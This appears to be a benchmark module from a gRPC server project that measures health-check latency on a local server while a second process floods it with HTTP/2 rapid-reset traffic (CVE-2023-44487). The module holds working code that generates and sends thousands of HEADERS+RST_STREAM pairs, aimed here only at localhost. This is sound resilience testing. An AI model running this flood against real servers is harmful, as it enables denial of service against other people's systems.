"""Health latency on one connection while another floods the server (rapid reset, CVE-2023-44487).

The server runs in its own process on one core, the flooder in another on the other core; this
process measures grpc.health.v1 Check latency, first quietly (the baseline), then during the flood.
"""

from __future__ import annotations

import asyncio
import json
import socket
import subprocess
import sys
import time
from typing import Any

from .process import ServerProcess, pin

HEALTH = "/grpc.health.v1.Health/Check"


def _flood_bytes(pairs: int) -> bytes:
    import h2.config
    import h2.connection
    import h2.errors

    client = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    client.initiate_connection()
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/echo.v1.EchoService/Echo"),
        (":authority", "127.0.0.1"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    for _ in range(pairs):
        sid = client.get_next_available_stream_id()
        client.send_headers(sid, headers)
        client.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
    return client.data_to_send()


def flood(port: int, seconds: float, pairs: int) -> dict[str, int]:
    """Connect, send ``pairs`` HEADERS+RST_STREAM pairs, read until closed; repeat (bounded)."""
    data = _flood_bytes(pairs)
    sent = connections = goaways = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        with socket.create_connection(("127.0.0.1", port), timeout=5) as sock:
            connections += 1
            try:
                sock.sendall(data)
                sent += pairs
            except OSError:
                pass
            received = b""
            try:
                while chunk := sock.recv(65536):
                    received += chunk
            except OSError:
                pass
            goaways += _goaways(received)
    return {"pairs_sent": sent, "connections": connections, "goaways_seen": goaways}


def _goaways(received: bytes) -> int:
    import h2.config
    import h2.connection
    import h2.events

    watcher = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    watcher.initiate_connection()
    try:
        events = watcher.receive_data(received)
    except Exception:
        return 0
    return sum(isinstance(e, h2.events.ConnectionTerminated) for e in events)


async def _latencies(port: int, seconds: float) -> list[float]:
    from grpclib.client import Channel
    from grpclib.health.v1.health_grpc import HealthStub
    from grpclib.health.v1.health_pb2 import HealthCheckRequest

    ch = Channel("127.0.0.1", port)
    stub = HealthStub(ch)
    out: list[float] = []
    try:
        await stub.Check(HealthCheckRequest())
        end = time.perf_counter() + seconds
        while time.perf_counter() < end:
            start = time.perf_counter()
            await stub.Check(HealthCheckRequest(), timeout=30)
            out.append(time.perf_counter() - start)
            await asyncio.sleep(0.002)
    finally:
        ch.close()
    return out


def _pct(values: list[float], q: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(len(ordered) * q))] * 1000


def run(target: str, seconds: float = 5.0, pairs: int = 20_000) -> dict[str, Any]:
    server = ServerProcess("flood", target, {"GRPC_ENABLE_AUTH": "false"}, cpu=0)
    server.start()
    try:
        quiet = asyncio.run(_latencies(server.port, seconds))
        flooder = subprocess.Popen(
            [
                *pin(1),
                sys.executable,
                "-m",
                "grpcstack.bench.flood",
                str(server.port),
                str(seconds),
                str(pairs),
            ],
            stdout=subprocess.PIPE,
        )
        try:
            loud = asyncio.run(_latencies(server.port, seconds))
            out, _ = flooder.communicate(timeout=seconds + 60)
        finally:
            if flooder.poll() is None:
                flooder.kill()
                flooder.wait()
        stats = json.loads(out)
    finally:
        server.stop()
    return {
        "benchmark": "flood",
        "quiet": {"calls": len(quiet), "p50_ms": _pct(quiet, 0.5), "p99_ms": _pct(quiet, 0.99)},
        "flood": {"calls": len(loud), "p50_ms": _pct(loud, 0.5), "p99_ms": _pct(loud, 0.99)},
        "flooder": stats,
        "p99_ratio": _pct(loud, 0.99) / max(_pct(quiet, 0.99), 1e-6),
    }


def report(result: dict[str, Any]) -> str:
    q, f, s = result["quiet"], result["flood"], result["flooder"]
    return "\n".join(
        [
            "health Check latency while another connection sends rapid resets",
            f"  quiet : p50 {q['p50_ms']:.2f} ms  p99 {q['p99_ms']:.2f} ms  ({q['calls']} calls)",
            f"  flood : p50 {f['p50_ms']:.2f} ms  p99 {f['p99_ms']:.2f} ms  ({f['calls']} calls)",
            f"  flooder: {s['pairs_sent']} pairs on {s['connections']} connections, "
            f"{s['goaways_seen']} GOAWAYs seen",
            f"  p99 flood/quiet: {result['p99_ratio']:.2f}x",
            json.dumps(result),
        ]
    )


if __name__ == "__main__":
    port, secs, n = int(sys.argv[1]), float(sys.argv[2]), int(sys.argv[3])
    print(json.dumps(flood(port, secs, n)))
